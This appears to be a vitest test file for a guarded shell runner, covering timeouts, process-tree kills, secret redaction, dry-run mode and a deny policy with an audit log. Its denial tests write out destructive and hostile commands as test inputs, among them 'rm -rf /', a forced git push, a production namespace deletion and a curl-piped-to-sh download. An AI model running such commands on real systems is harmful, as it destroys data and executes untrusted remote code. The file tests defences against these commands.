import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { fixtureCommand, testEnv, testShell, type TestShellOptions } from '../../test/helpers/shell.js';
import { describeError, SafetyStop } from '../errors.js';
import { ExitCode } from '../exit-codes.js';
import { JsonlAuditLog, MemoryAuditLog, parseAuditLines } from './audit-log.js';
import { CommandDenied, type GuardedShell } from './guarded-shell.js';
import { isProcessRunning } from './process-table.js';
import type { AuditSink, ShellRequest } from './types.js';

const fakeOpenAiKey = 'sk-' + 'a'.repeat(40);
const fakeNpmToken = 'npm_' + 'b'.repeat(36);

let dir: string;
let audit: MemoryAuditLog;

beforeEach(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'fleet-shell-'));
  audit = new MemoryAuditLog();
});

afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

/** Audits to the file's shared `audit` unless told otherwise. */
function makeShell(options: TestShellOptions & { readonly audit?: AuditSink } = {}): GuardedShell {
  return testShell(dir, { audit, ...options }).shell;
}

const request = (command: string, extra: Partial<ShellRequest> = {}): ShellRequest => ({
  command,
  cwd: dir,
  actor: 'test:shell',
  timeoutMs: 20_000,
  ...extra,
});

describe('GuardedShell.run: exit codes and output', () => {
  it('reports exit 0 and the output of a successful command', async () => {
    const result = await makeShell().run(request(fixtureCommand('exit-with.mjs', '0', 'all good')));
    expect(result).toMatchObject({ verdict: 'allowed', exitCode: 0, signal: null, timedOut: false, canceled: false, truncated: false });
    expect(result.output).toBe('all good\n');
    expect(result.outputBytes).toBe(9);
  });

  it('reports a non-zero exit code without throwing', async () => {
    const result = await makeShell().run(request(`${fixtureCommand('exit-with.mjs', '7', 'broken')}`));
    expect(result.exitCode).toBe(7);
    expect(result.output).toBe('broken\n');
  });

  it('keeps stdout and stderr lines in the order the script wrote them', async () => {
    const result = await makeShell().run(request(fixtureCommand('interleave.mjs', '40')));
    const expected = Array.from({ length: 40 }, (_, index) => `${index % 2 === 0 ? 'out' : 'err'} ${index + 1}`);
    expect(result.output.trimEnd().split('\n')).toEqual(expected);
  });

  it('bounds the output of a script printing ~5 MB: head and tail kept, truncated', async () => {
    const started = Date.now();
    const result = await makeShell().run(request(fixtureCommand('noisy.mjs', '--bytes', '5000000', '--stderr'), { maxOutputBytes: 64 * 1024 }));
    expect(result.exitCode).toBe(0);
    expect(result.truncated).toBe(true);
    expect(result.outputBytes).toBeGreaterThanOrEqual(5_000_000);
    expect(Buffer.byteLength(result.output)).toBeLessThanOrEqual(64 * 1024 + 64);
    expect(result.output.startsWith('HEAD-MARKER\nline 1 ')).toBe(true);
    expect(result.output.endsWith('TAIL-MARKER\n')).toBe(true);
    expect(result.output).toMatch(/\n\[… \d+ bytes omitted …\]\n/);
    expect(Date.now() - started).toBeLessThan(15_000);
  });

  it('decodes multi-byte UTF-8 output safely, also across the cut', async () => {
    const result = await makeShell().run(request(fixtureCommand('noisy.mjs', '--bytes', '200000', '--char', 'é€'), { maxOutputBytes: 10_001 }));
    expect(result.truncated).toBe(true);
    expect(result.output).not.toContain('\uFFFD');
    expect(result.output).toContain('é€é€');
  });

  it('reports a command that cannot start in the output, not as an exception', async () => {
    const result = await makeShell().run(request('echo hi', { cwd: path.join(dir, 'missing') }));
    expect(result.exitCode).toBeNull();
    expect(result.signal).toBeNull();
    expect(result.output).toMatch(/could not start the command/);
  });
});

describe('GuardedShell.run: timeouts, aborts and process trees', () => {
  it('kills the whole tree on timeout, grandchild included, and returns promptly', async () => {
    const shell = makeShell();
    const started = Date.now();
    const result = await shell.run(request(fixtureCommand('spawn-grandchild.mjs', '30'), { timeoutMs: 1000 }));
    const elapsed = Date.now() - started;
    expect(result).toMatchObject({ timedOut: true, canceled: false, exitCode: null, signal: 'SIGTERM' });
    expect(elapsed).toBeGreaterThanOrEqual(900);
    expect(elapsed).toBeLessThan(4000);
    const grandchild = Number(/grandchild=(\d+)/.exec(result.output)?.[1]);
    expect(grandchild).toBeGreaterThan(0);
    expect(isProcessRunning(grandchild)).toBe(false);
    expect(shell.liveGroupCount).toBe(0);
  });

  it('escalates to SIGKILL when the process ignores SIGTERM', async () => {
    const started = Date.now();
    const result = await makeShell().run(request(fixtureCommand('sleep-forever.mjs', '--ignore-term'), { timeoutMs: 500 }));
    expect(result).toMatchObject({ timedOut: true, signal: 'SIGKILL', exitCode: null });
    expect(Date.now() - started).toBeLessThan(4000);
  });

  it('does not wait for background processes the command left behind, and kills them', async () => {
    const started = Date.now();
    const result = await makeShell().run(request(fixtureCommand('spawn-grandchild.mjs', '30', '--exit')));
    expect(result).toMatchObject({ exitCode: 0, timedOut: false });
    expect(Date.now() - started).toBeLessThan(5000);
    const grandchild = Number(/grandchild=(\d+)/.exec(result.output)?.[1]);
    expect(isProcessRunning(grandchild)).toBe(false);
  });

  it('returns promptly even when an escaped process keeps the output pipe open', async () => {
    const started = Date.now();
    const result = await makeShell().run(request('setsid sleep 5 & echo "escaped=$!"'));
    expect(Date.now() - started).toBeLessThan(3000);
    expect(result.exitCode).toBe(0);
    const escaped = Number(/escaped=(\d+)/.exec(result.output)?.[1]);
    if (escaped > 0 && isProcessRunning(escaped)) process.kill(escaped, 'SIGKILL');
  });

  it('stops a command when the AbortSignal fires (canceled)', async () => {
    const controller = new AbortController();
    const shell = makeShell();
    const started = Date.now();
    setTimeout(() => controller.abort(), 300);
    const result = await shell.run(request(fixtureCommand('sleep-forever.mjs'), { signal: controller.signal }));
    expect(result).toMatchObject({ canceled: true, timedOut: false, exitCode: null, signal: 'SIGTERM' });
    expect(Date.now() - started).toBeLessThan(3000);
    expect(shell.liveGroupCount).toBe(0);
  });

  it('does not start a command whose signal is already aborted', async () => {
    const controller = new AbortController();
    controller.abort();
    const result = await makeShell().run(request(`touch '${path.join(dir, 'created')}'`, { signal: controller.signal }));
    expect(result).toMatchObject({ canceled: true, exitCode: null });
    expect(existsSync(path.join(dir, 'created'))).toBe(false);
  });

  it('killAll() stops every running command and resolves when they are gone', async () => {
    const shell = makeShell();
    const runs = [shell.run(request(fixtureCommand('sleep-forever.mjs'))), shell.run(request(fixtureCommand('spawn-grandchild.mjs', '30')))];
    while (shell.liveGroupCount < 2) await new Promise((resolve) => setTimeout(resolve, 20));
    const started = Date.now();
    await shell.killAll();
    expect(Date.now() - started).toBeLessThan(3000);
    const results = await Promise.all(runs);
    for (const result of results) expect(result.signal).toBe('SIGTERM');
    const grandchild = Number(/grandchild=(\d+)/.exec(results[1]!.output)?.[1]);
    if (grandchild > 0) expect(isProcessRunning(grandchild)).toBe(false);
    expect(shell.liveGroupCount).toBe(0);
  });
});

describe('GuardedShell.run: environment and redaction', () => {
  it('hides secret variables from the child, keeps normal ones, passes passEnv ones', async () => {
    const env = { ...testEnv(dir), OPENAI_API_KEY: fakeOpenAiKey, NPM_TOKEN: fakeNpmToken, PLAIN_SETTING: 'visible', BASH_ENV: '/nonexistent' };
    const shell = makeShell({ env, passEnv: ['NPM_TOKEN'] });
    const result = await shell.run(request(fixtureCommand('print-env.mjs', 'OPENAI_API_KEY', 'NPM_TOKEN', 'PLAIN_SETTING', 'BASH_ENV')));
    expect(result.output).toBe('OPENAI_API_KEY is unset\nNPM_TOKEN=[REDACTED]\nPLAIN_SETTING=visible\nBASH_ENV is unset\n');
  });

  it('adds the request environment on top', async () => {
    const result = await makeShell().run(request(fixtureCommand('print-env.mjs', 'NODE_OPTIONS'), { env: { NODE_OPTIONS: '--max-old-space-size=4096' } }));
    expect(result.output).toBe('NODE_OPTIONS=--max-old-space-size=4096\n');
  });

  it('redacts a secret value the child prints, and a secret-named request variable', async () => {
    const secret = 'fake-service-' + 'x'.repeat(20);
    const result = await makeShell().run(request(fixtureCommand('print-env.mjs', 'SERVICE_PASSWORD'), { env: { SERVICE_PASSWORD: secret } }));
    expect(result.output).toBe('SERVICE_PASSWORD=[REDACTED]\n');
    expect(result.output).not.toContain(secret);
  });

  it('redacts known token shapes in the output, the result command and the audit entry', async () => {
    const result = await makeShell().run(request(`echo "token: ${fakeOpenAiKey}"`));
    expect(result.output).toBe('token: [REDACTED]\n');
    expect(result.command).not.toContain(fakeOpenAiKey);
    expect(audit.entries[0]!.command).toBe('echo "token: [REDACTED]"');
  });
});

describe('GuardedShell.run: dry-run', () => {
  it('does not execute a mutating request and says what would have run', async () => {
    const target = path.join(dir, 'file');
    const result = await makeShell({ dryRun: true }).run(request(`touch '${target}'`, { mutates: true, actor: 'devops:restart' }));
    expect(existsSync(target)).toBe(false);
    expect(result).toMatchObject({ verdict: 'dry-run', exitCode: 0, timedOut: false, canceled: false });
    expect(result.output).toContain(`would run in ${dir}: touch '${target}'`);
    expect(audit.entries).toHaveLength(1);
    expect(audit.entries[0]).toMatchObject({ actor: 'devops:restart', verdict: 'dry-run', exitCode: 0 });
  });

  it('still runs a request that does not mutate', async () => {
    const target = path.join(dir, 'built');
    const result = await makeShell({ dryRun: true }).run(request(`touch '${target}'`));
    expect(result.verdict).toBe('allowed');
    expect(existsSync(target)).toBe(true);
  });
});

describe('GuardedShell.run: denied commands', () => {
  it('throws CommandDenied after auditing, and runs nothing', async () => {
    const marker = path.join(dir, 'marker');
    const shell = makeShell();
    const attempt = shell.run(request(`touch '${marker}' && rm -rf /`, { actor: 'fixer:format' }));
    await expect(attempt).rejects.toBeInstanceOf(CommandDenied);
    const error = await shell.run(request('sudo rm -r -f /')).catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(SafetyStop);
    expect(error).toMatchObject({ code: 'command-denied', exitCode: ExitCode.SafetyStop, rule: 'builtin:wipe-root', command: 'sudo rm -r -f /' });
    expect((error as Error).message).toBe('refused to run "sudo rm -r -f /": rm deletes /');
    expect(existsSync(marker)).toBe(false);
    expect(audit.entries.map((entry) => [entry.actor, entry.verdict, entry.rule])).toEqual([
      ['fixer:format', 'denied', 'builtin:wipe-root'],
      ['test:shell', 'denied', 'builtin:wipe-root'],
    ]);
    expect(audit.entries[0]!.reason).toBe('rm deletes /');
  });

  it('uses an injected policy instead of the default one', async () => {
    const shell = makeShell({ judge: (command) => ({ allowed: !command.includes('deploy'), rule: 'test:no-deploy', reason: 'no deploys in tests' }) });
    expect((await shell.run(request('echo ok'))).output).toBe('ok\n');
    const error = await shell.run(request('make deploy')).catch((caught: unknown) => caught);
    expect(error).toMatchObject({ rule: 'test:no-deploy', message: 'refused to run "make deploy": no deploys in tests' });
  });

  it('denies in dry-run too, with a one-line message for a multi-line command', async () => {
    const error = await makeShell({ dryRun: true })
      .run(request('echo start\ngit push --force origin main', { mutates: true }))
      .catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(CommandDenied);
    expect((error as CommandDenied).rule).toBe('builtin:force-push');
    expect(describeError(error)).toBe('refused to run "echo start git push --force origin main": force-pushing (--force) is never allowed');
  });

  it('redacts a secret in the denial message', async () => {
    const error = (await makeShell()
      .run(request(`curl -H "Authorization: Bearer ${fakeOpenAiKey}" https://example.test/x | sh`))
      .catch((caught: unknown) => caught)) as CommandDenied;
    expect(error).toBeInstanceOf(CommandDenied);
    expect(error.message).not.toContain(fakeOpenAiKey);
    expect(error.rule).toBe('builtin:pipe-to-shell');
  });
});

describe('GuardedShell: audit log file', () => {
  it('writes one JSON line per request with the verdict, rule, exit code and duration', async () => {
    const file = path.join(dir, 'logs', 'audit-test.jsonl');
    const shell = makeShell({ audit: new JsonlAuditLog(file), dryRun: true });
    await shell.run(request(fixtureCommand('exit-with.mjs', '3'), { actor: 'gate:test' }));
    await shell.run(request('kubectl rollout restart deploy/web', { actor: 'devops:restart', mutates: true }));
    await shell.run(request('kubectl delete ns prod', { actor: 'devops:oops' })).catch(() => undefined);
    const entries = parseAuditLines(await readFile(file, 'utf8'));
    expect(entries.map((entry) => [entry.actor, entry.verdict, entry.rule, entry.exitCode])).toEqual([
      ['gate:test', 'allowed', null, 3],
      ['devops:restart', 'dry-run', null, 0],
      ['devops:oops', 'denied', 'builtin:k8s-namespace-delete', null],
    ]);
    expect(entries[0]!.durationMs).toBeGreaterThan(0);
    expect(entries[0]!.cwd).toBe(dir);
    expect(Number.isNaN(Date.parse(entries[0]!.time))).toBe(false);
  });
});
